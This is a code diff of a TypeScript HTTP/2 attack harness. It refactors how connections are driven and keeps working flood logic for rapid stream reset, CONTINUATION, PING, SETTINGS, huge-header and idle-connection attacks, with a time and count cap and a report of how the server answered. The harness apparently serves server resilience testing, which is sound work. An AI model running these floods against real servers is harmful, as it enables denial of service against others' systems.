@@ -1,5 +1,4 @@
 import { setImmediate as yieldToLoop, setTimeout as sleep } from "node:timers/promises";
-import { Worker } from "node:worker_threads";
 import {
   continuationFrame,
   dataFrame,
@@ -12,6 +11,7 @@ import {
   Setting,
   settingsFrame,
 } from "./http2-frames.js";
+import { driveAttack, flood, type AttackCounts } from "./attack-driver.js";
 import { openRawHttp2Connection, type Http2Target, type RawHttp2Connection, type RawHttp2ConnectionOptions } from "./raw-http2-connection.js";
 
 /** The attacks {@link runHttp2Attack} knows. */
@@ -43,22 +43,14 @@ export interface Http2AttackOptions {
 }
 
 /** What one attack did and how the server answered it. */
-export interface Http2AttackReport {
+export interface Http2AttackReport extends AttackCounts {
   readonly attack: Http2AttackName;
   /** What `sent` counts, e.g. `streams reset` or `PING frames`. */
   readonly unit: string;
-  /** Units of abuse written to the server. */
-  sent: number;
-  /** Connections opened, counting reconnections after the server closed one. */
-  connections: number;
-  /** Connections the server closed before the attack ended. */
-  closedByServer: number;
-  /** GOAWAY frames received, by error code name. */
+  /** GOAWAY frames received, by error code name (the first of each connection). */
   readonly goaways: Record<string, number>;
   /** RST_STREAM frames received (streams the server refused or ended). */
-  streamsReset: number;
-  /** Connections that could not be opened at all. */
-  refusedConnections: number;
+  readonly streamsReset: number;
 }
 
 /** Largest number of units any attack sends, whatever its duration: the count bound. */
@@ -98,73 +90,26 @@ interface AttackPlan {
  */
 export async function runHttp2Attack(name: Http2AttackName, options: Http2AttackOptions): Promise<Http2AttackReport> {
   const plan = planOf(name, options);
-  const report: Http2AttackReport = { attack: name, unit: plan.unit, sent: 0, connections: 0, closedByServer: 0, goaways: {}, streamsReset: 0, refusedConnections: 0 };
-  const endsAt = performance.now() + options.durationMs;
-  const running = (): boolean => performance.now() < endsAt && report.sent < MAX_UNITS;
-  const open = new Set<RawHttp2Connection>();
-
-  const slot = async (): Promise<void> => {
-    while (running()) {
-      let connection: RawHttp2Connection;
-      try {
-        connection = await openRawHttp2Connection(options.target, plan.connection?.(report.connections + report.refusedConnections));
-      } catch {
-        report.refusedConnections += 1;
-        await sleep(50);
-        continue;
-      }
-      report.connections += 1;
-      open.add(connection);
+  const returned = { goaways: {} as Record<string, number>, streamsReset: 0 };
+  const counts = await driveAttack({
+    connections: plan.connections,
+    durationMs: options.durationMs,
+    maxUnits: MAX_UNITS,
+    open: async (n) => {
+      const connection = await openRawHttp2Connection(options.target, plan.connection?.(n));
       let streamId = -1;
-      const sent = await plan.abuse(connection, () => running() && !connection.stats.closed, () => (streamId += 2));
-      report.sent += sent;
-      // Hold the connection until the time is up, unless the server closes it first.
-      await Promise.race([connection.closed, sleep(Math.max(0, endsAt - performance.now()))]);
-      if (connection.stats.closed && performance.now() < endsAt) report.closedByServer += 1;
-      collect(report, connection);
-      connection.destroy();
-      open.delete(connection);
-    }
-  };
-  try {
-    await Promise.all(Array.from({ length: plan.connections }, slot));
-  } finally {
-    for (const connection of open) connection.destroy();
-  }
-  return report;
-}
-
-/**
- * {@link runHttp2Attack} in a worker thread, so that the attack's own work does not
- * delay whatever this thread measures meanwhile. Rejects when the worker fails.
- */
-export function runHttp2AttackInWorker(name: Http2AttackName, options: Http2AttackOptions): Promise<Http2AttackReport> {
-  return new Promise((resolve, reject) => {
-    const worker = new Worker(new URL("./http2-attack-worker.js", import.meta.url), { workerData: { name, options } });
-    worker.once("message", (report: Http2AttackReport) => resolve(report));
-    worker.once("error", reject);
-    worker.once("exit", (code) => reject(new Error(`the attack worker exited with ${code} before reporting`)));
+      return Object.assign(connection, { nextStreamId: () => (streamId += 2) });
+    },
+    abuse: (connection, running) => plan.abuse(connection, running, connection.nextStreamId),
+    done: (connection) => {
+      returned.streamsReset += connection.stats.frames["RST_STREAM"] ?? 0;
+      const code = connection.stats.goawayCode;
+      if (code === undefined) return;
+      const codeName = ERROR_NAMES[code] ?? `0x${code.toString(16)}`;
+      returned.goaways[codeName] = (returned.goaways[codeName] ?? 0) + 1;
+    },
   });
-}
-
-function collect(report: Http2AttackReport, connection: RawHttp2Connection): void {
-  report.streamsReset += connection.stats.frames["RST_STREAM"] ?? 0;
-  const code = connection.stats.goawayCode;
-  if (code !== undefined) {
-    const name = ERROR_NAMES[code] ?? `0x${code.toString(16)}`;
-    report.goaways[name] = (report.goaways[name] ?? 0) + 1;
-  }
-}
-
-/** Sends batches made by `batch` until stopped; each batch counts `perBatch` units. */
-async function flood(connection: RawHttp2Connection, running: () => boolean, perBatch: number, batch: () => Buffer): Promise<number> {
-  let sent = 0;
-  while (running()) {
-    if (!(await connection.send(batch()))) break;
-    sent += perBatch;
-    await yieldToLoop();
-  }
-  return sent;
+  return { attack: name, unit: plan.unit, ...counts, ...returned };
 }
 
 function planOf(name: Http2AttackName, options: Http2AttackOptions): AttackPlan {
@@ -176,7 +121,7 @@ function planOf(name: Http2AttackName, options: Http2AttackOptions): AttackPlan 
         unit: "streams reset",
         connections: options.connections ?? 1,
         abuse: (connection, running, next) =>
-          flood(connection, running, 100, () =>
+          flood(connection.send, running, 100, () =>
             Buffer.concat(
               Array.from({ length: 100 }, () => {
                 const id = next();
@@ -194,7 +139,7 @@ function planOf(name: Http2AttackName, options: Http2AttackOptions): AttackPlan 
           const id = next();
           await connection.send(headersFrame(id, requestBlock, { endHeaders: false }));
           filler.writeUInt32BE(id, 5);
-          return flood(connection, running, 16, () => Buffer.concat(Array.from({ length: 16 }, () => filler)));
+          return flood(connection.send, running, 16, () => Buffer.concat(Array.from({ length: 16 }, () => filler)));
         },
       };
     }
@@ -203,7 +148,7 @@ function planOf(name: Http2AttackName, options: Http2AttackOptions): AttackPlan 
       return {
         unit: "PING frames",
         connections: options.connections ?? 1,
-        abuse: (connection, running) => flood(connection, running, 1000, () => Buffer.concat(Array.from({ length: 1000 }, () => pingFrame(opaque++)))),
+        abuse: (connection, running) => flood(connection.send, running, 1000, () => Buffer.concat(Array.from({ length: 1000 }, () => pingFrame(opaque++)))),
       };
     }
     case "settings-flood": {
@@ -212,7 +157,7 @@ function planOf(name: Http2AttackName, options: Http2AttackOptions): AttackPlan 
         unit: "SETTINGS frames",
         connections: options.connections ?? 1,
         abuse: (connection, running) =>
-          flood(connection, running, 500, () =>
+          flood(connection.send, running, 500, () =>
             Buffer.concat(Array.from({ length: 500 }, () => settingsFrame([[Setting.INITIAL_WINDOW_SIZE, 65_535 - (toggle++ % 2)], [Setting.HEADER_TABLE_SIZE, 4096]]))),
           ),
       };
@@ -268,7 +213,7 @@ function planOf(name: Http2AttackName, options: Http2AttackOptions): AttackPlan 
       return {
         unit: "requests with huge headers",
         connections: options.connections ?? 1,
-        abuse: (connection, running, next) => flood(connection, running, 1, () => Buffer.concat(inFrames(next(), n++ % 2 === 0 ? big : many))),
+        abuse: (connection, running, next) => flood(connection.send, running, 1, () => Buffer.concat(inFrames(next(), n++ % 2 === 0 ? big : many))),
       };
     }
     case "idle-connections":
